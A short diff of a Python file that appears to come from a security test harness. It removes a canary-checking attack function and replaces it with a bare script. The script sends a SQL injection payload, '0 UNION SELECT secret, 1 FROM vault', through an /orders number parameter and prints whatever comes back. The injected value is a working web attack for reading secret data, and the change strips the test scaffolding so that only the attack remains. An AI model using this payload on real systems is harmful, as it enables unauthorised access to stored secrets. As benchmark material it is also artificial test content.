@@ -1,8 +1,6 @@
 """The order number reads the vault."""
 
-from quintain.judge import leaks
+from target import http
 
-
-def attack(box, canary, rng):
-    answer = box.http.get("/orders", params={"number": "0 UNION SELECT secret, 1 FROM vault"})
-    return leaks(canary.vault_secret, answer, "the vault's secret")
+answer = http.get("/orders", params={"number": "0 UNION SELECT secret, 1 FROM vault"})
+print(answer.text)
